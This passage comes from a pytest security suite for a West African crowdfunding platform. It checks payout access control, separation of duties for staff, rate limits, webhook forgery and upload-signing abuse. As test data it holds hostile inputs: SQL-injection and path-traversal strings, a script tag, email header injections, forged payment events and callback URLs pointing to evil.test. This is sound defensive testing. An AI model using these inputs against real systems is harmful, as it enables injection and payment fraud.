    guess = as_user(other_user).rpc("invitation_by_token", {"token": invitation["id"]}, get=True)
    assert guess == []


def test_payout_details_are_hidden_from_donors_and_strangers(
    db, give, anon, as_user, owner, user, other_user, campaign
):
    give(campaign, 50_000, donor=user)
    as_user(owner).rpc(
        "request_payout",
        {"campaign_id": campaign["id"], "amount": 10_000, "method": "mobile_money",
         "beneficiary_name": "Aminata Traoré", "mobile_operator": "orange_money",
         "phone_number": "+22376000000"},
    )  # fmt: skip
    (mine,) = as_user(owner).get("payout_requests")
    assert (mine["account_mask"], "phone_number" in mine) == ("+223 •• ••• •• 00", False)
    for client in (as_user(user), as_user(other_user)):
        assert client.get("payout_requests") == []
    refused(lambda: anon.get("payout_requests"), code="42501")


def test_proof_documents_are_hidden_from_the_public(db, anon, as_user, owner, other_user, campaign):
    (doc,) = as_user(owner).insert(
        "campaign_documents",
        {"campaign_id": campaign["id"], "document_type": "medical_document",
         "file_ref": f"africagnotte/documents/{campaign['id']}/devis"},
    )  # fmt: skip
    assert as_user(other_user).get("campaign_documents") == []
    refused(lambda: anon.get("campaign_documents"), code="42501")
    assert doc["id"]


# Payout governance ---------------------------------------------------------------------------

PAYOUT_WALLET = {
    "method": "mobile_money", "beneficiary_name": "Awa Sidibé", "mobile_operator": "wave",
    "phone_number": "+221771234567",
}  # fmt: skip


@pytest.fixture
def funded(owner, make_campaign, give, user):
    """An active campaign whose category asks for no proof, with money to pay out."""
    c = make_campaign(owner, "active", category="autre")
    give(c, 50_000, user)
    return c


def ask_payout(as_user, who, campaign, amount=10_000):
    return as_user(who).rpc(
        "request_payout", {"campaign_id": campaign["id"], "amount": amount, **PAYOUT_WALLET}
    )


def payout_status(db, payout) -> str:
    return db.one("select status::text from public.payout_requests where id = %s", [payout["id"]])[
        "status"
    ]


@pytest.mark.parametrize("who_deletes", ["owner", "treasurer"])
def test_removing_a_treasurer_does_not_lower_the_sign_off_a_payout_needs(
    db, as_user, make_user, owner, admin, funded, who_deletes
):
    treasurer = make_user()
    db.sql(
        "insert into public.campaign_members (campaign_id, user_id) values (%s, %s)",
        [funded["id"], treasurer.id],
    )
    as_user(owner).rpc(
        "set_treasurers",
        {"campaign_id": funded["id"], "treasurer_ids": [str(treasurer.id)], "quorum": 1},
    )
    p = ask_payout(as_user, owner, funded)
    actor = owner if who_deletes == "owner" else treasurer
    assert as_user(actor).delete("campaign_members", {"user_id": str(treasurer.id)})
    refused(lambda: as_user(admin).rpc("approve_payout", {"payout_id": p["id"]}),
            status=409, code="payout_blocked")  # fmt: skip
    assert payout_status(db, p) == "requested"
    assert db.sql("select 1 from public.payout_approvals") == []


def test_a_moderator_cannot_accept_the_documents_of_their_own_campaign(
    db, as_user, make_user, grant_role, make_campaign
):
    insider = grant_role(make_user(), "moderator")
    c = make_campaign(insider, "active")  # santé: asks for a medical document
    (doc,) = as_user(insider).insert(
        "campaign_documents",
        {"campaign_id": str(c["id"]), "document_type": "medical_document",
         "file_ref": f"africagnotte/documents/{c['id']}/faux-devis"},
    )  # fmt: skip
    refused(
        lambda: as_user(insider).rpc(
            "review_campaign_document", {"document_id": doc["id"], "status": "accepted"}
        ),
        status=403, code="cannot_review_own_campaign",
    )  # fmt: skip
    assert row(db, "campaign_documents", doc["id"])["status"] == "pending"


def test_an_admin_cannot_approve_or_pay_their_own_payout(
    db, as_user, make_user, grant_role, make_campaign, give, user
):
    insider = grant_role(make_user(), "admin")
    c = make_campaign(insider, "active", category="autre")
    give(c, 50_000, user)
    p = ask_payout(as_user, insider, c)
    refused(lambda: as_user(insider).rpc("approve_payout", {"payout_id": p["id"]}),
            status=403, code="cannot_review_own_campaign")  # fmt: skip
    assert payout_status(db, p) == "requested"
    db.sql("update public.payout_requests set status = 'approved' where id = %s", [p["id"]])
    refused(
        lambda: as_user(insider).rpc("mark_payout_paid", {"payout_id": p["id"], "reference": "W"}),
        status=403, code="cannot_review_own_campaign",
    )  # fmt: skip
    assert payout_status(db, p) == "approved"


def test_an_admin_who_signed_as_treasurer_cannot_leave_the_team_and_approve_the_payout(
    db, as_user, make_user, grant_role, owner, funded
):
    insider = grant_role(make_user(), "admin")
    db.sql(
        "insert into public.campaign_members (campaign_id, user_id) values (%s, %s)",
        [funded["id"], insider.id],
    )
    as_user(owner).rpc(
        "set_treasurers",
        {"campaign_id": funded["id"], "treasurer_ids": [str(insider.id)], "quorum": 1},
    )
    p = ask_payout(as_user, owner, funded)
    as_user(insider).rpc("approve_payout_as_treasurer", {"payout_id": p["id"]})
    assert as_user(insider).delete("campaign_members", {"user_id": str(insider.id)})
    refused(lambda: as_user(insider).rpc("approve_payout", {"payout_id": p["id"]}),
            status=403, code="cannot_review_own_campaign")  # fmt: skip
    assert payout_status(db, p) == "requested"
    assert db.sql("select 1 from private.audit_log where action = 'approve_payout'") == []


def test_a_treasurer_removed_from_the_team_cannot_sign_even_as_an_admin(
    db, as_user, make_user, grant_role, owner, funded
):
    insider = grant_role(make_user(), "admin")
    db.sql(
        "insert into public.campaign_members (campaign_id, user_id) values (%s, %s)",
        [funded["id"], insider.id],
    )
    as_user(owner).rpc(
        "set_treasurers",
        {"campaign_id": funded["id"], "treasurer_ids": [str(insider.id)], "quorum": 1},
    )
    p = ask_payout(as_user, owner, funded)
    assert as_user(owner).delete("campaign_members", {"user_id": str(insider.id)})
    refused(lambda: as_user(insider).rpc("approve_payout_as_treasurer", {"payout_id": p["id"]}),
            status=403, code="not_treasurer")  # fmt: skip
    assert db.sql("select 1 from public.payout_approvals") == []


def test_a_moderator_who_uploaded_a_proof_cannot_leave_the_team_and_accept_it(
    db, as_user, make_user, grant_role, owner, make_campaign
):
    insider = grant_role(make_user(), "moderator")
    c = make_campaign(owner, "active")  # santé: asks for a medical document
    db.sql(
        "insert into public.campaign_members (campaign_id, user_id) values (%s, %s)",
        [c["id"], insider.id],
    )
    (doc,) = as_user(insider).insert(
        "campaign_documents",
        {"campaign_id": str(c["id"]), "document_type": "medical_document",
         "file_ref": f"africagnotte/documents/{c['id']}/faux-devis"},
    )  # fmt: skip
    assert as_user(insider).delete("campaign_members", {"user_id": str(insider.id)})
    refused(
        lambda: as_user(insider).rpc(
            "review_campaign_document", {"document_id": doc["id"], "status": "accepted"}
        ),
        status=403, code="cannot_review_own_campaign",
    )  # fmt: skip
    assert row(db, "campaign_documents", doc["id"])["status"] == "pending"


def test_an_admin_cannot_accept_their_own_rewrite_of_someone_elses_campaign(
    db, as_user, admin, moderator, funded
):
    story = "Les dons iront désormais à mon cousin, qui gère la collecte. " * 2
    as_user(admin).update("campaigns", {"story": story}, {"id": funded["id"]})
    refused(
        lambda: as_user(admin).rpc(
            "review_campaign_edit", {"campaign_id": funded["id"], "accept": True}
        ),
        status=403, code="cannot_review_own_campaign",
    )  # fmt: skip
    review = db.one("select status::text, editors from public.campaign_edit_reviews")
    assert review == {"status": "pending", "editors": [admin.id]}
    # another staff member decides it
    decided = as_user(moderator).rpc(
        "review_campaign_edit", {"campaign_id": funded["id"], "accept": False, "reason": "Non"}
    )
    assert decided["status"] == "restored"
    assert row(db, "campaigns", funded["id"])["story"] == funded["story"]


@pytest.mark.parametrize("stop", ["frozen", "cancelled", "banned"])
def test_a_payout_of_a_frozen_or_cancelled_campaign_or_banned_owner_is_neither_approved_nor_paid(
    db, gotrue, as_user, owner, admin, funded, stop
):
    p = ask_payout(as_user, owner, funded)
    if stop == "banned":
        gotrue.ban(owner)
    else:
        db.sql("update public.campaigns set status = %s where id = %s", [stop, funded["id"]])
    refused(lambda: as_user(admin).rpc("approve_payout", {"payout_id": p["id"]}),
            status=409, code="payout_blocked")  # fmt: skip
    db.sql("update public.payout_requests set status = 'approved' where id = %s", [p["id"]])
    refused(
        lambda: as_user(admin).rpc("mark_payout_paid", {"payout_id": p["id"], "reference": "W"}),
        status=409, code="payout_blocked",
    )  # fmt: skip
    assert payout_status(db, p) == "approved"
    assert db.sql("select 1 from public.payout_requests where paid_at is not null") == []


def test_a_donor_or_stranger_never_sees_a_payout_account_masked_or_not(
    db, service, anon, as_user, owner, user, other_user, funded
):
    p = ask_payout(as_user, owner, funded)
    for who in (user, other_user):  # user is a donor
        assert as_user(who).get("payout_requests") == []
        response = service.get(
            f"/payouts/{p['id']}/account", headers={"Authorization": f"Bearer {who.token}"}
        )
        assert (response.status_code, response.get_json()["message"]) == (
            404, "payout_not_found",
        )  # fmt: skip
        refused(lambda who=who: raw(as_user(who), "select * from private.payout_accounts",
                                    method="GET"))  # fmt: skip
    assert service.get(f"/payouts/{p['id']}/account").status_code == 401
    refused(lambda: anon.get("payout_requests"), code="42501")
    assert db.sql("select 1 from private.audit_log where action = 'read_payout_account'") == []


def test_the_api_never_returns_a_payout_accounts_ciphertext(as_user, owner, admin, funded):
    p = ask_payout(as_user, owner, funded)
    seen = [p, *as_user(owner).get("payout_requests"), *as_user(admin).get("payout_requests")]
    for r in seen:
        assert not {"ciphertext", "phone_number", "beneficiary_name"} & set(r)
        assert "771234567" not in json.dumps(r, default=str)


# Hostile strings and oversized input ---------------------------------------------------------


def write_campaign_text(field):
    def write(ctx, value):
        client = ctx["as_user"](ctx["owner"])
        (row_,) = client.insert("campaigns", {**CAMPAIGN, field: value})
        return row_[field]

    return write


def write_comment(ctx, value):
    (c,) = ctx["as_user"](ctx["make_user"]()).insert(
        "comments", {"campaign_id": ctx["campaign"]["id"], "body": value}
    )
    return c["body"]


def write_update(field):
    def write(ctx, value):
        body = {
            "campaign_id": ctx["campaign"]["id"],
            "title": "Nouvelles",
            "body": "Merci",
            field: value,
        }
        ctx["db"].sql("delete from private.rate_limit_hits")  # not the daily limit's test
        (u,) = ctx["as_user"](ctx["owner"]).insert("campaign_updates", body)
        return u[field]

    return write


def write_report(ctx, value):
    body = {"campaign_id": ctx["campaign"]["id"], "reason": "fraud", "details": value}
    (r,) = ctx["as_user"](ctx["make_user"]()).insert("reports", body)
    return r["details"]


def write_profile(field):
    def write(ctx, value):
        (p,) = ctx["as_user"](ctx["user"]).update(
            "profiles", {field: value}, {"id": ctx["user"].id}
        )
        return p[field]

    return write


def write_invitation(ctx, value):
    ctx["as_user"](ctx["owner"]).rpc(
        "invite_to_campaign",
        {"campaign_id": ctx["campaign"]["id"], "email": f"x{uuid.uuid4().hex[:6]}@example.test",
         "message": value},
    )  # fmt: skip
    return ctx["db"].one(
        "select message from public.campaign_invitations order by created_at desc limit 1"
    )["message"]


def write_rejection(ctx, value):
    pending = ctx["make_campaign"](ctx["owner"], "pending_review")
    ctx["as_user"](ctx["moderator"]).rpc(
        "reject_campaign", {"campaign_id": pending["id"], "reason": value}
    )
    return row(ctx["db"], "campaigns", pending["id"])["rejection_reason"]


def write_donation(field):
    def write(ctx, value):
        response = ctx["service"].post(
            "/donations/checkout",
            json={"campaign_id": str(ctx["campaign"]["id"]), "amount": 5000, "currency": "XOF",
                  "provider": "stripe", field: value},
        )  # fmt: skip
        answer = response.get_json()
        if response.status_code != 201:  # the service's error: the API's shape
            raise ApiError(response.status_code, **answer)
        return row(ctx["db"], "donations", answer["donation_id"])[field]

    return write


TEXT_INPUTS = {
    "campaign title": write_campaign_text("title"),
    "campaign summary": write_campaign_text("summary"),
    "campaign story": write_campaign_text("story"),
    "campaign city": write_campaign_text("city"),
    "comment": write_comment,
    "update title": write_update("title"),
    "update body": write_update("body"),
    "report details": write_report,
    "display name": write_profile("display_name"),
    "bio": write_profile("bio"),
    "invitation message": write_invitation,
    "rejection reason": write_rejection,
    "donor name": write_donation("donor_name"),
    "donation message": write_donation("message"),
}


@pytest.fixture
def ctx(db, as_user, make_user, owner, user, moderator, campaign, make_campaign, service):
    return locals()


@pytest.mark.parametrize("field", TEXT_INPUTS)
def test_hostile_strings_are_stored_verbatim_in_every_text_input(ctx, field):
    for value in HOSTILE:
        assert TEXT_INPUTS[field](ctx, value) == value


@pytest.mark.parametrize(
    ("field", "stored"),
    [("campaign title", None), ("display name", None), ("update title", None),
     ("donor name", "Aminata Bcc: everyone@example.test")],
)  # fmt: skip
def test_header_injection_through_a_one_line_field_is_refused_or_flattened(ctx, field, stored):
    value = "Aminata\r\nBcc: everyone@example.test"
    if stored is None:
        refused(lambda: TEXT_INPUTS[field](ctx, value), status=400, code="23514")
    else:
        assert TEXT_INPUTS[field](ctx, value) == stored


WRITES = (
    "select (select count(*) from public.donations) + (select count(*) from public.comments)"
    " + (select count(*) from public.campaign_updates) + (select count(*) from public.reports)"
    " + (select count(*) from public.campaign_invitations)"
    " + (select count(*) from public.campaign_status_history where to_status = 'rejected') as n"
)


@pytest.mark.parametrize("field", TEXT_INPUTS)
def test_a_nul_byte_in_any_text_input_is_a_clean_4xx(ctx, field):
    err = refused(lambda: TEXT_INPUTS[field](ctx, "nul\x00byte"))
    assert 400 <= err.status < 500, err
    assert ctx["db"].one(WRITES)["n"] == 0


@pytest.mark.parametrize("q", ["%", "_", "*", ":*", "'' or 1=1", "!zzz"])
def test_search_wildcards_do_not_list_every_campaign(db, anon, campaign, q):
    assert anon.rpc("search_campaigns", {"q": q}, get=True) == []


def test_hostile_titles_give_clean_slugs(db, make_campaign, owner):
    for title in ("../../etc/passwd ?x=1", "<script>alert(1)</script>", "'; drop --"):
        c = make_campaign(owner, "active", title=title)
        assert c["slug"]
        assert all(ch.isalnum() or ch == "-" for ch in c["slug"])


@pytest.mark.parametrize(
    ("table", "values"),
    [("campaigns", {**CAMPAIGN, "title": "T" * 121}), ("campaigns", {**CAMPAIGN, "summary": "s" * 281}),
     ("campaigns", {**CAMPAIGN, "story": "x" * 20_001}), ("campaigns", {**CAMPAIGN, "tags": [f"t{i}" for i in range(11)]}),
     ("campaigns", {**CAMPAIGN, "tags": ["x" * 31]}), ("campaigns", {**CAMPAIGN, "goal_amount": 10**15})],
)  # fmt: skip
def test_oversized_campaign_fields_are_refused(db, as_user, user, table, values):
    err = refused(lambda: as_user(user).insert(table, values))
    assert 400 <= err.status < 500
    assert db.one("select count(*) as n from public.campaigns")["n"] == 0


def test_an_oversized_comment_or_update_is_refused(db, as_user, owner, campaign):
    client = as_user(owner)
    refused(lambda: client.insert("comments", {"campaign_id": campaign["id"], "body": "x" * 2001}))
    body = {"campaign_id": campaign["id"], "title": "Nouvelles", "body": "x" * 10_001}
    refused(lambda: client.insert("campaign_updates", body))
    assert (
        db.sql("select 1 from public.comments union all select 1 from public.campaign_updates")
        == []
    )


def test_an_oversized_request_body_is_413_with_json(db, service, stripe_api, campaign):
    body = {"campaign_id": str(campaign["id"]), "amount": 5000, "currency": "XOF",
            "message": "x" * (2 * 1024 * 1024)}  # fmt: skip
    response = service.post("/donations/checkout", json=body)
    assert response.status_code == 413
    assert response.get_json()["message"]
    assert stripe_api.requests == []


@pytest.mark.parametrize("amount", [10**40, 2**63, -5000, 0, 5000.5, "5000", True])
def test_absurd_amounts_are_refused_before_any_write(db, service, stripe_api, campaign, amount):
    body = {"campaign_id": str(campaign["id"]), "amount": amount, "currency": "XOF"}
    response = service.post("/donations/checkout", json=body)
    assert response.status_code in (400, 422), response.get_json()
    assert response.get_json()["message"]
    assert db.sql("select 1 from public.donations") == []


def test_deeply_nested_json_is_a_clean_400(db, service, stripe_api):
    response = service.post(
        "/donations/checkout", data="[" * 100_000 + "]" * 100_000, content_type="application/json"
    )
    assert response.status_code == 400
    assert response.get_json()["message"]


def test_a_huge_page_size_is_refused(anon, campaign):
    refused(lambda: anon.rpc("search_campaigns", {"page_size": 10**9}, get=True), status=400)
    refused(
        lambda: anon.rpc(
            "campaign_donations", {"campaign_id": campaign["id"], "page_size": 10**9}, get=True
        ),
        status=400,
    )


# Abuse: messages and limits ---------------------------------------------------------------------


def comment_on(client, campaign, body="Courage !"):
    return client.insert("comments", {"campaign_id": campaign["id"], "body": body})


def update_on(client, campaign, title="Nouvelles de la famille"):
    body = {"campaign_id": campaign["id"], "title": title, "body": "Merci à tous."}
    return client.insert("campaign_updates", body)


def test_comments_sent_in_parallel_cannot_beat_the_limit(db, as_user, user, campaign):
    clients = [as_user(user) for _ in range(20)]
    results = at_once([lambda c=c: comment_on(c, campaign) for c in clients])
    assert refusals(results) == [(429, "comment_rate_limited")] * 15
    assert db.one("select count(*) as n from public.comments")["n"] == 5


def test_deleting_ones_comments_does_not_reset_the_limit(db, as_user, user, campaign):
    client = as_user(user)
    for _ in range(5):
        comment_on(client, campaign)
    client.delete("comments", {"author_id": str(user.id)})
    refused(lambda: comment_on(client, campaign), status=429, code="comment_rate_limited")
    assert db.sql("select 1 from public.comments") == []


def test_invitations_across_many_drafts_cannot_beat_the_daily_limit(
    db, as_user, owner, make_campaign
):
    drafts = [make_campaign(owner, "draft") for _ in range(6)]

    def invite_many(client, first):  # each request after the other, as one browser tab
        outcomes = []
        for i in range(first, first + 6):
            try:
                outcomes.append(client.rpc("invite_to_campaign", {
                    "campaign_id": drafts[i % 6]["id"], "email": f"cible{i}@example.test",
                    "role": "co_organizer",
                }))  # fmt: skip
            except ApiError as exc:
                outcomes.append(exc)
        return outcomes

    tabs = [lambda c=as_user(owner), t=t: invite_many(c, 6 * t) for t in range(12)]
    outcomes = [o for tab in at_once(tabs) for o in tab]
    assert refusals(outcomes) == [(429, "invitation_limit_reached")] * 22
    assert db.one("select count(*) as n from public.campaign_invitations")["n"] == 50
    assert (
        db.one("select count(*) as n from private.email_outbox where template like 'invitation%'")[
            "n"
        ]
        == 50
    )


@pytest.mark.parametrize("status", ["cancelled", "frozen"])
def test_a_closed_or_frozen_campaigns_owner_cannot_email_donors_through_an_update(
    db, as_user, give, owner, user, campaign, status
):
    give(campaign, 5000, user)
    db.sql("select private.set_campaign_status(%s, %s)", [campaign["id"], status])
    before = db.one("select count(*) as n from private.email_outbox")["n"]
    refused(lambda: update_on(as_user(owner), campaign), status=409, code="campaign_closed")
    assert db.sql("select 1 from public.campaign_updates") == []
    assert db.sql("select 1 from public.notifications where kind = 'campaign_update'") == []
    assert db.one("select count(*) as n from private.email_outbox")["n"] == before


def test_an_update_flood_cannot_spam_donors(db, as_user, give, owner, user, campaign):
    give(campaign, 5000, user)
    clients = [as_user(owner) for _ in range(12)]
    results = at_once(
        [lambda c=c, i=i: update_on(c, campaign, f"Nouvelle {i}") for i, c in enumerate(clients)]
    )
    assert refusals(results) == [(429, "update_rate_limited")] * 7
    assert db.one("select count(*) as n from public.campaign_updates")["n"] == 5
    assert (
        db.one("select count(*) as n from private.email_outbox where template = 'campaign_update'")[
            "n"
        ]
        == 5
    )


@pytest.mark.parametrize("hider", ["moderator", "reports"])
def test_an_owner_cannot_unhide_a_comment_moderation_hid(
    db, as_user, make_user, user, owner, moderator, campaign, hider
):
    (comment,) = comment_on(as_user(user), campaign, "Arnaque, ne donnez pas")
    if hider == "moderator":
        as_user(moderator).update("comments", {"hidden": True}, {"id": comment["id"]})
    else:
        for reporter in [make_user() for _ in range(3)]:
            as_user(reporter).insert("reports", {"comment_id": comment["id"], "reason": "spam"})
    client = as_user(owner)
    refused(
        lambda: client.update("comments", {"hidden": False}, {"id": comment["id"]}),
        status=403,
        code="hidden_by_moderation",
    )
    assert row(db, "comments", comment["id"])["hidden"] is True


@pytest.mark.parametrize(
    "email", ["x@evil.example,y", "kofi@example.test\r\nBcc: all@example.test", "<a@b.test>"]
)
def test_an_address_the_mailer_cannot_parse_is_refused_where_written(
    db, as_user, owner, campaign, email
):
    call = {"campaign_id": campaign["id"], "email": email, "role": "co_organizer"}
    refused(
        lambda: as_user(owner).rpc("invite_to_campaign", call), status=422, code="invalid_email"
    )
    assert db.sql("select 1 from public.campaign_invitations") == []
    assert db.sql("select 1 from private.email_outbox where template like 'invitation%'") == []


@pytest.mark.parametrize(
    "text", ["Merci\r\nBcc: tous@example.test", "Merci\u2028à tous", "Merci\x85"]
)
def test_a_line_break_cannot_reach_an_email_subject(db, as_user, owner, campaign, draft, text):
    client = as_user(owner)
    refused(lambda: update_on(client, campaign, text), status=400, code="23514")
    refused(lambda: client.update("campaigns", {"title": text}, {"id": draft["id"]}), code="23514")
    refused(
        lambda: client.update("profiles", {"display_name": text}, {"id": owner.id}), code="23514"
    )
    assert db.sql("select 1 from public.campaign_updates") == []
    assert row(db, "campaigns", draft["id"])["title"] == "Projet secret pour Koudougou"
    assert db.one("select display_name from public.profiles where id = %s", [owner.id]) == {
        "display_name": "Aminata Traoré"
    }


def test_one_account_cannot_flood_the_moderators_with_reports(db, as_user, user, owner, campaign):
    ids = [
        db.one(
            "insert into public.comments (campaign_id, author_id, body) values (%s, %s, %s)"
            " returning id",
            [campaign["id"], owner.id, f"Merci {i}"],
        )["id"]
        for i in range(16)
    ]
    clients = [as_user(user) for _ in ids]
    results = at_once([
        lambda c=c, i=i: c.insert("reports", {"comment_id": str(i), "reason": "spam"})
        for c, i in zip(clients, ids, strict=True)
    ])  # fmt: skip
    assert refusals(results) == [(429, "report_rate_limited")] * 6
    assert db.one("select count(*) as n from public.reports")["n"] == 10


@pytest.mark.parametrize("hider", ["moderator", "reports"])
def test_a_moderator_cannot_show_again_their_own_comment_that_moderation_hid(
    db, as_user, make_user, grant_role, owner, moderator, campaign, hider
):
    author = grant_role(make_user(), "moderator")
    (comment,) = comment_on(as_user(author), campaign, "Donnez plutôt à ma cagnotte")
    if hider == "moderator":
        as_user(moderator).update("comments", {"hidden": True}, {"id": comment["id"]})
    else:
        for reporter in [make_user() for _ in range(3)]:
            as_user(reporter).insert("reports", {"comment_id": comment["id"], "reason": "spam"})
    client = as_user(author)
    refused(lambda: client.update("comments", {"hidden": False}, {"id": comment["id"]}), status=403)
    assert row(db, "comments", comment["id"])["hidden"] is True


@pytest.mark.parametrize(
    ("role", "status"), [("contributor", "expired"), ("co_organizer", "rejected")]
)
def test_an_owner_cannot_resend_an_invitation_the_campaign_no_longer_sends(
    db, as_user, owner, moderator, make_campaign, role, status
):
    campaign = make_campaign(owner, "active" if status == "expired" else "pending_review")
    client = as_user(owner)
    call = {"campaign_id": campaign["id"], "email": "kofi@example.test", "role": role}
    invitation = client.rpc("invite_to_campaign", call)
    if status == "rejected":
        as_user(moderator).rpc("reject_campaign", {"campaign_id": campaign["id"], "reason": "Flou"})
    else:
        db.sql("select private.set_campaign_status(%s, 'expired')", [campaign["id"]])
    db.sql("update public.campaign_invitations set last_sent_at = now() - interval '1 hour'")
    before = db.one("select count(*) as n from private.email_outbox")["n"]
    refused(lambda: client.rpc("invite_to_campaign", {**call, "email": "awa@example.test"}),
            status=409, code="campaign_closed")  # fmt: skip
    refused(
        lambda: client.rpc("resend_invitation", {"invitation_id": invitation["id"]}),
        status=409,
        code="campaign_closed",
    )
    assert row(db, "campaign_invitations", invitation["id"])["send_count"] == 1
    assert db.one("select count(*) as n from private.email_outbox")["n"] == before


@pytest.mark.parametrize(
    "email", ["x@evil.example,y", "kofi@example.test\u2028Bcc: a@b.test", "<a@b.test>"]
)
def test_a_guest_email_the_receipt_cannot_go_to_is_refused_before_any_pledge(
    db, service, stripe_api, campaign, email
):
    body = {"campaign_id": str(campaign["id"]), "amount": 5000, "currency": "XOF", "email": email}
    response = service.post("/donations/checkout", json=body)
    assert (response.status_code, response.get_json()["message"]) == (422, "invalid_email")
    assert stripe_api.requests == []
    assert db.sql("select 1 from public.donations") == []


def test_a_moderator_cannot_dismiss_the_reports_on_their_own_comment(
    db, as_user, make_user, grant_role, user, campaign
):
    author = grant_role(make_user(), "moderator")
    (comment,) = comment_on(as_user(author), campaign, "Donnez plutôt à ma cagnotte")
    (report,) = as_user(user).insert("reports", {"comment_id": comment["id"], "reason": "spam"})
    refused(
        lambda: as_user(author).rpc(
            "resolve_report", {"report_id": report["id"], "status": "dismissed"}
        ),
        status=403,
        code="cannot_review_own_comment",
    )
    assert row(db, "reports", report["id"])["status"] == "open"


# Webhook forgeries -----------------------------------------------------------------------------


@pytest.fixture
def pledge(donate, campaign):
    return donate(campaign, 5000)


def collected(db, campaign) -> int:
    return totals(db, campaign)["collected_amount"]


def test_an_old_event_re_signed_and_replayed_is_applied_once(db, post_event, pledge, campaign):
    evt = completed(pledge)
    assert post_event(evt).get_json()["outcome"] == "applied"
    assert post_event(evt, timestamp=int(time.time()) + 1).get_json()["outcome"] == "duplicate"
    assert collected(db, campaign) == 5000


def test_a_refund_larger_than_the_donation_cannot_drive_totals_negative(
    db, post_event, pledge, campaign
):
    post_event(completed(pledge))
    post_event(refunded(pledge, 5_000_000))
    assert 0 <= collected(db, campaign) <= 5000
    assert db.sql("select * from private.check_ledger()") == []


def test_an_oversized_webhook_body_is_refused_unread(db, service):
    payload = b'{"id": "evt_big", "pad": "' + b"x" * (2 * 1024 * 1024) + b'"}'
    response = service.post(
        "/webhooks/stripe", data=payload, content_type="application/json",
        headers={"Stripe-Signature": sf.sign(payload)},
    )  # fmt: skip
    assert response.status_code == 413
    assert db.sql("select 1 from private.webhook_events") == []


def test_a_stripe_event_signed_with_the_cloudinary_secret_is_refused(db, service, pledge):
    from tests.conftest import CLOUDINARY_SECRET

    payload = json.dumps(completed(pledge)).encode()
    response = service.post(
        "/webhooks/stripe", data=payload, content_type="application/json",
        headers={"Stripe-Signature": sf.sign(payload, secret=CLOUDINARY_SECRET)},
    )  # fmt: skip
    assert response.status_code == 400
    assert db.sql("select 1 from private.webhook_events") == []


def test_a_mobile_money_notification_replayed_after_success_credits_once(
    db, pay_by_mobile_money, notify, cinetpay_api, campaign
):
    p = pay_by_mobile_money(campaign, 5000)
    cinetpay_api.settle(p["transaction_id"], "ACCEPTED")
    for _ in range(3):
        assert notify(p["transaction_id"]).status_code == 200
    assert collected(db, campaign) == 5000


def test_a_notification_for_a_transaction_we_never_opened_writes_nothing(db, notify, cinetpay_api):
    ghost = str(uuid.uuid4())
    cinetpay_api.payments[ghost] = {"amount": 100_000, "currency": "XOF", "metadata": None,
                                    "description": "x", "operator_id": None}  # fmt: skip
    cinetpay_api.settle(ghost, "ACCEPTED")
    response = notify(ghost)
    assert response.status_code < 500
    assert db.sql("select 1 from private.ledger_entries") == []


def test_a_stripe_event_whose_references_disagree_credits_no_pledge(
    db, donate, post_event, campaign
):
    # A signed event (a session of the attacker's own on our Stripe account): its
    # client_reference_id names one pledge, its metadata another, its session is
    # unknown to the database.
    a, b = donate(campaign, 5000), donate(campaign, 5000)
    forged = sf.event(
        "checkout.session.completed",
        sf.checkout_session(
            b, id="cs_test_attacker", payment_intent="pi_test_attacker",
            client_reference_id=a["donation_id"],
        ),
    )  # fmt: skip

    response = post_event(forged)

    assert response.status_code == 200  # acknowledged: recorded, held for review
    assert response.get_json()["outcome"] == "mismatch"
    assert (
        db.sql(
            "select id from public.donations where status <> 'pending' or needs_review is not null"
        )
        == []
    )
    assert db.sql("select 1 from private.ledger_entries") == []
    assert (
        db.sql("select 1 from private.payment_attempts where payment_ref = 'pi_test_attacker'")
        == []
    )
    assert collected(db, campaign) == 0
    assert db.one("select outcome from private.webhook_events")["outcome"] == "mismatch"


def test_a_cinetpay_transaction_that_is_not_ours_credits_no_pledge_through_its_metadata(
    db, pay_by_mobile_money, notify, cinetpay_api, campaign
):
    # Another payment on our CinetPay site whose metadata names one of our pledges.
    p = pay_by_mobile_money(campaign, 5000)
    stranger = str(uuid.uuid4())
    cinetpay_api.payments[stranger] = {
        **cinetpay_api.payments[p["transaction_id"]], "status": "ACCEPTED", "operator_id": "MPX",
    }  # fmt: skip

    response = notify(stranger)

    assert response.status_code == 200
    assert response.get_json()["outcome"] == "mismatch"
    assert db.one("select status::text from public.donations")["status"] == "pending"
    assert db.sql("select 1 from private.ledger_entries") == []
    assert collected(db, campaign) == 0


# Cloudinary signing abuse ------------------------------------------------------------------


@pytest.mark.parametrize(
    "extra",
    [{"folder": "africagnotte/campaigns/other"}, {"public_id": "../../avatars/admin"},
     {"notification_url": "https://evil.test/hook"}, {"type": "upload", "overwrite": True},
     {"eager": "w_10000,h_10000"}],
)  # fmt: skip
def test_a_signing_request_cannot_choose_what_gets_signed(service, owner, campaign, extra):
    response = sign_upload(service, owner.token, campaign_id=str(campaign["id"]), **extra)
    assert response.status_code == 422
    assert response.get_json()["message"]


def test_an_avatar_signature_only_covers_the_callers_own_folder(service, user, other_user):
    fields = sign_upload(service, user.token, target="avatar").get_json()["fields"]
    signed = json.dumps(fields)
    assert str(user.id) in signed
    assert str(other_user.id) not in signed


def test_a_replayed_upload_notification_does_not_resurrect_a_deleted_asset(db, service, campaign):
    note, sent_at = upload_note(campaign["id"]), int(time.time())
    cloudinary_notify(service, note, timestamp=sent_at)
    cloudinary_notify(
        service, {"notification_type": "delete", "resources": [
            {"public_id": note["public_id"], "resource_type": "image"}]},
    )  # fmt: skip
    # the very request again (its timestamp and signature), whatever the clock says now
    cloudinary_notify(service, note, timestamp=sent_at)
    assert db.sql("select 1 from public.campaign_media") == []


def test_a_notification_for_another_users_avatar_folder_changes_nothing(
    db, service, user, other_user
):
    note = {"notification_type": "upload", "public_id": f"africagnotte/avatars/{other_user.id}/../{user.id}/x",
            "resource_type": "image", "bytes": 90_000}  # fmt: skip
    assert cloudinary_notify(service, note).get_json()["outcome"].startswith("refused")
    assert row(db, "profiles", other_user.id)["avatar_url"] is None


# Operators' tools and request shapes -------------------------------------------------------


@pytest.fixture
def console_cli(operator_cli, monkeypatch):
    monkeypatch.setenv("COLUMNS", "1000")  # one line per row
    return operator_cli


def test_rich_markup_in_a_comment_cannot_crash_or_restyle_the_console(
    console_cli, as_user, user, campaign
):
    body = "Bonjour [/oops] [red]URGENT[/red] [link=https://evil.test]payez ici[/link]"
    as_user(user).insert("comments", {"campaign_id": campaign["id"], "body": body})
    result = console_cli("comments", "list")
    assert result.exit_code == 0, result.output
    assert body in result.stdout


def test_terminal_escapes_in_a_comment_never_reach_the_operators_terminal(
    console_cli, as_user, user, campaign
):
